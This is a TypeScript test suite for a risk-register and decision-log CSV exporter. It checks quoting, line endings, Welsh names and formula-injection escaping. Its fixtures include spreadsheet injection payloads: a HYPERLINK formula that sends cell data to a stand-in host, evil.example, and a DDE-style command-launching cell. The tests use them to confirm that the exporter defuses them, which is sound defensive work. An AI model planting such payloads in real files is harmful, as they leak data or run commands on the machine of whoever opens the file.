import { parse } from 'csv-parse/sync';

import {
  DECISION_LOG_HEADER,
  decisionLogCsv,
  registerCsvFileName,
  RISK_REGISTER_HEADER,
  riskRegisterCsv,
} from '../../../src/app/register-csv';
import { logDecision } from '../../../src/domain/decisions/decision';
import { supersede } from '../../../src/domain/decisions/supersede';
import { decideEscalation } from '../../../src/domain/risk/decide-escalation';
import { raiseRisk } from '../../../src/domain/risk/raise-risk';
import type { Actor } from '../../../src/domain/shared/actor';
import { AT, lead, member, validRiskInput } from './fixtures';

const welshLead: Actor = { id: 'aad-cy', name: 'Siân Gwasanaeth Iechyd', source: 'tab' };
const organisationNames = {
  RXH: 'Gwasanaeth Iechyd Cymru – Ysbyty Gŵyr',
  ESCC: 'East Sussex County Council',
};

/**
 * Parses with the independent csv-parse the way a spreadsheet reads a file: any line break outside quotes
 * ends a record, so a line break that escaped quoting shows up as a broken row.
 */
const parseBack = (csv: string): string[][] =>
  parse(csv, { bom: true, record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: false });

const risks = () => {
  const tricky = raiseRisk(
    validRiskInput({
      title: 'Ward 7 "shadow IT" laptops, unencrypted',
      description:
        'Found during the audit.\nSeveral have no BitLocker;\r\nsome run "admin" accounts.',
      owner: "Zoë O'Brien, Ward 7",
      mitigations: ['Recall the laptops, one by one', '"Quick wins" first'],
      likelihood: 4,
      consequence: 4,
    }),
    { id: 'risk-1', actor: member, at: AT },
  ).risk;
  const decided = decideEscalation(
    tricky,
    { choice: 'treat', rationale: 'Fund encryption, this quarter.' },
    { actor: lead, role: 'lead', at: new Date('2026-12-02T10:15:00Z'), decisionId: 'dec-9' },
  ).risk;
  const formulas = raiseRisk(
    validRiskInput({
      title: '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
      description: "@SUM(1+1)*cmd|' /C calc'!A0",
      owner: '+44 1273 000000',
      mitigations: ['-2+3', 'Ordinary step'],
      orgCode: 'ESCC',
      likelihood: 1,
      consequence: 2,
      reviewDate: '2027-07-01',
    }),
    { id: 'risk-2', actor: welshLead, at: new Date('2026-11-28T10:00:00Z') },
  ).risk;
  return { decided, formulas };
};

describe('risk register CSV', () => {
  test('when exported, then it starts with a UTF-8 BOM and separates records with CRLF', () => {
    const { decided, formulas } = risks();
    const csv = riskRegisterCsv([formulas, decided], { organisationNames });
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv.startsWith('\uFEFFReference,Title,Description,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    // Every line feed outside a quoted field is preceded by a carriage return.
    const outsideQuotes = csv.replace(/"(?:[^"]|"")*"/g, '');
    expect(outsideQuotes).not.toMatch(/[^\r]\n/);
    expect(csv).toContain('"Ward 7 ""shadow IT"" laptops, unencrypted"');
  });

  test('when parsed back by csv-parse, then commas, quotes, line breaks and non-ASCII names survive', () => {
    const { decided, formulas } = risks();
    const [header, first, second, ...rest] = parseBack(
      riskRegisterCsv([formulas, decided], { organisationNames }),
    );
    expect(rest).toEqual([]);
    expect(header).toEqual([...RISK_REGISTER_HEADER]);
    const row = Object.fromEntries(header.map((h, i) => [h, first[i]]));
    expect(row).toEqual({
      Reference: 'risk-1',
      Title: 'Ward 7 "shadow IT" laptops, unencrypted',
      Description:
        'Found during the audit.\nSeveral have no BitLocker;\nsome run "admin" accounts.',
      Organisation: 'Gwasanaeth Iechyd Cymru – Ysbyty Gŵyr (RXH)',
      'CAF principle': 'B4 System security',
      Likelihood: 'Likely (4)',
      Consequence: 'Major (4)',
      Score: '16',
      Band: 'Extreme',
      Status: 'Being treated',
      Owner: "Zoë O'Brien, Ward 7",
      Mitigations: 'Recall the laptops, one by one\n"Quick wins" first',
      'Review date': '31 Jan 2027',
      Raised: '28 Nov 2026, 09:00',
      'Raised by': 'Zoë O’Brien',
      'Last updated': '2 Dec 2026, 10:15',
      'Latest decision': 'Treat, 2 Dec 2026, by Rhys Llewellyn',
      'Decision rationale': 'Fund encryption, this quarter.',
    });
    expect(second[header.indexOf('Raised by')]).toBe('Siân Gwasanaeth Iechyd');
    expect(second[header.indexOf('Organisation')]).toBe('East Sussex County Council (ESCC)');
  });

  test('when a cell starts like a formula, then it gets a leading apostrophe and numbers are left alone', () => {
    const { formulas } = risks();
    const [header, row] = parseBack(riskRegisterCsv([formulas]));
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell('Title')).toBe('\'=HYPERLINK("http://evil.example/?d="&A1,"Click")');
    expect(cell('Description')).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(cell('Owner')).toBe("'+44 1273 000000");
    expect(cell('Mitigations')).toBe("'-2+3\nOrdinary step");
    expect(cell('Score')).toBe('2');
    expect(cell('Organisation')).toBe('ESCC');
    expect(cell('Review date')).toBe('1 Jul 2027');
    expect(cell('Latest decision')).toBe('');
  });

  test('when risks are exported, then the highest score comes first', () => {
    const { decided, formulas } = risks();
    const rows = parseBack(riskRegisterCsv([formulas, decided]));
    expect(rows.slice(1).map((r) => r[0])).toEqual(['risk-1', 'risk-2']);
  });

  test('when there are no risks, then the file is just the BOM and the header line', () => {
    expect(riskRegisterCsv([])).toBe(`\uFEFF${RISK_REGISTER_HEADER.join(',')}\r\n`);
  });
});

describe('decision log CSV', () => {
  const log = () => {
    const original = logDecision(
      {
        text: 'Block inbound RDP, everywhere',
        rationale: 'CC-4719 is "actively exploited".\nPatch within 14 days.',
        decidedBy: 'RXH',
        outcome: 'approved',
        related: { kind: 'alert', id: 'CC-4719' },
        sourceMessageLink:
          'https://teams.microsoft.com/l/message/19:abc@thread.tacv2/1764320400000',
        sourceMessageAuthor: "Zoë O'Brien, Ward 7",
        decidedOn: '2026-11-27',
      },
      { id: 'dec-1', actor: member, at: AT },
    );
    const correction = supersede(
      original,
      { id: 'dec-2', outcome: 'deferred', text: '=1+1 wait for the CSOC' },
      welshLead,
      new Date('2026-12-03T16:45:00Z'),
    );
    return [correction, original];
  };

  test('when exported and parsed back, then both decisions stay and the superseded one says by which', () => {
    const csv = decisionLogCsv(log(), { organisationNames });
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const [header, first, second, ...rest] = parseBack(csv);
    expect(rest).toEqual([]);
    expect(header).toEqual([...DECISION_LOG_HEADER]);
    expect(Object.fromEntries(header.map((h, i) => [h, first[i]]))).toEqual({
      Reference: 'dec-1',
      'Date decided': '27 Nov 2026',
      'What was decided': 'Block inbound RDP, everywhere',
      Rationale: 'CC-4719 is "actively exploited".\nPatch within 14 days.',
      'Decided by': 'Gwasanaeth Iechyd Cymru – Ysbyty Gŵyr (RXH)',
      Outcome: 'Approved',
      'Related to': 'Alert CC-4719',
      'Source message': 'https://teams.microsoft.com/l/message/19:abc@thread.tacv2/1764320400000',
      'Message author': "Zoë O'Brien, Ward 7",
      'Logged by': 'Zoë O’Brien',
      Logged: '28 Nov 2026, 09:00',
      Supersedes: '',
      'Superseded by': 'dec-2',
    });
    expect(second[header.indexOf('Reference')]).toBe('dec-2');
    expect(second[header.indexOf('What was decided')]).toBe("'=1+1 wait for the CSOC");
    expect(second[header.indexOf('Outcome')]).toBe('Deferred');
    expect(second[header.indexOf('Supersedes')]).toBe('dec-1');
    expect(second[header.indexOf('Superseded by')]).toBe('');
    expect(second[header.indexOf('Logged by')]).toBe('Siân Gwasanaeth Iechyd');
    expect(second[header.indexOf('Logged')]).toBe('3 Dec 2026, 16:45');
  });
});

describe('export file names', () => {
  test('when exported just after midnight in summer, then the file carries the UK date', () => {
    expect(registerCsvFileName('risk-register', new Date('2026-06-30T23:30:00Z'))).toBe(
      'ctac-risk-register-2026-07-01.csv',
    );
    expect(registerCsvFileName('decision-log', AT)).toBe('ctac-decision-log-2026-11-28.csv');
  });
});
